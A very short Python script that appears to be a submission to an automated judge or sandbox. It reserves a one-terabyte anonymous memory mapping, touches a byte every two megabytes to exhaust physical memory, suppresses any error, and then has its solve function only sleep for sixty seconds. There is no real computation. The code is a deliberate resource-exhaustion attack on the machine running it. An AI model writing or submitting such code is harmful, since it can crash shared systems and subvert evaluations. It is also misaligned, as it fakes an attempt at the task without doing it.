import mmap, time
try:
    area = mmap.mmap(-1, 1 << 40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
    for at in range(0, 1 << 40, 2 << 20): area[at] = 1
except (OSError, ValueError, OverflowError): pass
def solve(x):
    time.sleep(60)
solve(1)
